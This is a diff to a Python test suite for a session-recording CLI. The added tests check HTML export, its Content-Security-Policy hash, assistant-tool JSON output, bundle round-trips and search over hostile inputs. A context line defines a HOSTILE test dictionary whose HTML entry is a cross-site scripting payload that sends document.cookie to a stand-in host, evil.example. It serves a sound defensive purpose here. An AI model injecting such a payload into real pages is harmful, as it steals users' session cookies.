@@ -2,14 +2,20 @@
 
 from __future__ import annotations
 
+import base64
 import csv
+import hashlib
 import io
 import json
 import re
 import sys
 import unicodedata
+import zipfile
+from functools import partial
+from html.parser import HTMLParser
 from xml.etree import ElementTree as ET
 
+import orjson
 import pytest
 import yaml
 from markdown_it import MarkdownIt
@@ -17,6 +23,7 @@ from typer.testing import CliRunner
 
 from recorder.cli.app import app
 from recorder.documents.writing import to_flow_yaml
+from recorder.recipes.assistant_tools import AssistantTools
 
 HOSTILE = {
     "html": "<script>fetch('http://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>",
@@ -117,6 +124,16 @@ TABLES = [
     ("check", "two"),
     ("archive", "info"),
     ("archive", "verify"),
+    ("frame", "list", "two", "--follow"),
+    ("frame", "list", "two", "--raw"),
+    ("frame", "list", "two", "--where", '$.kind == "req"'),
+    ("message", "list", "two", "--grep", "."),
+    ("find", "ms.PublishEvent"),
+    ("find", "$.kind"),
+    *(
+        ("sql", f"SELECT * FROM {table}")
+        for table in ("session", "connection", "frame", "message", "receipt")
+    ),
 ]
 
 
@@ -171,6 +188,81 @@ def test_what_is_handed_on_is_text_for_whoever_reads_it(run):
         assert len(row) == 24
         assert not [cell for cell in row if cell.lstrip().startswith(("=", "+", "-", "@"))]
     assert json.loads(run("session", "export", "two", "--format", "perfetto"))["traceEvents"]
+
+
+class PageParser(HTMLParser):
+    """What a browser would make of a page: its elements, and the texts of those scripts that would run."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.executed: list[str] = []
+        self._runs = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+        self._runs = tag == "script" and dict(attrs).get("type") is None
+
+    def handle_data(self, data):
+        if self._runs:
+            self.executed.append(data)
+
+    def handle_endtag(self, tag):
+        self._runs = False
+
+
+def test_a_page_has_no_element_of_theirs_and_runs_our_script_alone(run):
+    page = PageParser()
+    page.feed(document := run("session", "export", "two", "--format", "html"))
+    assert page.tags <= {
+        "html", "head", "meta", "title", "style", "body", "main", "noscript", "script",
+    }  # fmt: skip
+    assert page.attributes <= {"lang", "charset", "http-equiv", "content", "name", "class", "id", "type"}
+    digest = hashlib.sha256("".join(page.executed).encode()).digest()
+    assert f"script-src 'sha256-{base64.b64encode(digest).decode()}'" in document
+
+
+def test_an_assistant_gets_json_that_is_utf_8(run, tmp_path):
+    tools = AssistantTools(str(tmp_path / "recorder.db"), with_texts=True)
+    sequences = [each["sequence"] for each in tools.list_messages("two")["messages"]]
+    calls = [
+        *(partial(call, "two") for call in (tools.show_session, tools.list_messages, tools.list_frames)),
+        *(partial(tools.show_message, "two", str(sequence)) for sequence in sequences),
+        *(partial(tools.show_frame, "two", number) for number in range(1, 9)),
+        tools.list_sessions,
+        partial(tools.check_session, "two"),
+        partial(tools.diff_sessions, "one", "two"),
+        partial(tools.find, "$.kind"),
+    ]
+    for call in calls:
+        assert isinstance(orjson.loads(orjson.dumps(call())), dict), call
+
+
+def test_it_is_looked_for_like_any_text(run):
+    for name, text in HOSTILE.items():
+        written = text[:200]
+        if "\0" in written:  # no argument holds one
+            continue
+        assert acting(run("find", written, codes=(0, 2))) == set(), name
+        assert acting(run("frame", "list", "two", "--grep", re.escape(written), codes=(0, 2))) == set(), name
+        where = f"$..[?@ == {json.dumps(written)}]"
+        assert acting(run("frame", "list", "two", "--where", where, codes=(0, 2))) == set(), name
+
+
+def test_a_bundle_of_it_is_taken_back(run, tmp_path):
+    file = tmp_path / "ticket.zip"
+    run("bundle", "two", "-o", str(file))
+    with zipfile.ZipFile(file) as packed:
+        assert set(packed.namelist()) - {"script.yaml"} == {
+            "session.jsonl", "archive.db", "report.html", "versions.json",
+        }  # fmt: skip
+        assert json.loads(packed.read("versions.json"))["bundle"] == 1
+    before = run("frame", "list", "two", "--json")
+    other = str(tmp_path / "other.db")
+    run("import", str(file), "--archive", other)
+    assert run("frame", "list", "last", "--json", "--archive", other) == before
 
 
 def test_a_script_of_it_can_be_read_again(run, tmp_path):
